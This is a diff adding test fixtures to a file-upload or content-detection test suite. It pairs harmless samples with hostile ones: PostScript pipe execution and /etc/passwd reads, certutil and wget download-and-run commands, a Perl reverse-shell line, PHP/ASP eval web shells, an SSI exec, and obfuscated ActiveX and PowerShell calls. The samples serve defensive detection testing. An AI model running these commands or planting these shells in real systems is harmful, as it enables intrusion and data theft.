@@ -20,6 +20,15 @@ export const scriptSamples: readonly WebSample[] = [
     hostile: ["#@~^EgAAAA==\\ko$K6,JCV^GE@#@&zAUAAA==^#~@", "'\n'\n#@~^EgAAAA==\\ko$K6=="],
   },
   {
+    rule: "script-postscript",
+    filename: "drawing.ps",
+    harmless: ["%!PS-Adobe-3.0\n<< /PageSize [595 842] >> setpagedevice\ncurrentfile eexec\nshowpage\n"],
+    hostile: [
+      "%!PS\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops\n",
+      "%!PS\n(/etc/passwd) (r) file\n",
+    ],
+  },
+  {
     rule: "script-content",
     filename: "notes.txt",
     harmless: [
@@ -64,6 +73,16 @@ export const scriptSamples: readonly WebSample[] = [
       ),
       "var a = 'YWxlcnQoMSk=';\nvar b = this['eval'];\nb(a);",
       "curl -s https://example.com/a | bash",
+      "var c = this['Act' + 'iveXObject'];\nnew c('a');",
+      "&(\"{1}{0}\" -f 'ex','i') 'a'",
+      "cmd.exe /c certutil -urlcache -f https://example.com/a a.exe & a.exe",
+      "cd /tmp || cd /var/run; wget https://example.com/a; chmod 777 a; sh a",
+      lines("import os", "os.system('id')"),
+      "use Socket;$i='192.0.2.1';socket(S,PF_INET,SOCK_STREAM,6);exec('/bin/sh -i');",
+      "<html><body><?php @eval($_POST['x']); ?></body></html>",
+      "<%eval request('x')%>",
+      "<!--#exec cmd='id' -->",
+      "<image><read filename='https://example.com/a.png'/><write filename='a.php'/></image>",
       lines("cd /tmp", "wget https://example.com/a", "chmod 777 a", "./a"),
       "regsvr32 /s /n /u /i:https://example.com/a.sct scrobj.dll",
       lines("set a=1", "if exist b del b", "goto end", ":end"),
@@ -72,16 +91,23 @@ export const scriptSamples: readonly WebSample[] = [
   },
 ];
 
+const property = (content: string) =>
+  `<?xml version="1.0"?><plist version="1.0"><dict>${content}</dict></plist>`;
+
 export const shortcutSamples: readonly WebSample[] = [
   {
     rule: "shortcut-link",
     filename: "notes.txt",
-    harmless: ["See [InternetShortcut] in the manual."],
+    harmless: [
+      "See [InternetShortcut] in the manual.",
+      property("<key>Title</key><string>a</string><key>URL</key><string>https://example.com/</string>"),
+    ],
     hostile: [
       "[InternetShortcut]\r\nURL=https://example.com/",
       "; comment\r\n[internetshortcut]\r\nURL=file://example.com/a.exe\r\n",
       "[DEFAULT]\r\nBASEURL=https://example.com/\r\n[InternetShortcut]\r\nURL=https://example.com/\r\n",
       "<libraryDescription xmlns='x'><url>\\\\example.com</url></libraryDescription>",
+      property("<key>URL</key><string>file:///Applications/a.app</string>"),
       "[Desktop Entry]\nType=Link\nURL=https://example.com/",
     ],
   },
@@ -115,6 +141,7 @@ export const shortcutSamples: readonly WebSample[] = [
       "[Version]\r\nSignature=$CHICAGO$\r\n[DefaultInstall]\r\nRunPreSetupCommands=a\r\n",
       "full address:s:example.com\r\nscreen mode id:i:2",
       "screen mode id:i:2\r\nuse multimon:i:0\r\nfull address:s:example.com\r\n",
+      property("<key>PayloadType</key><string>Configuration</string>"),
       "[.ShellClassInfo]\r\nIconResource=\\\\example.com\\a.ico",
     ],
   },
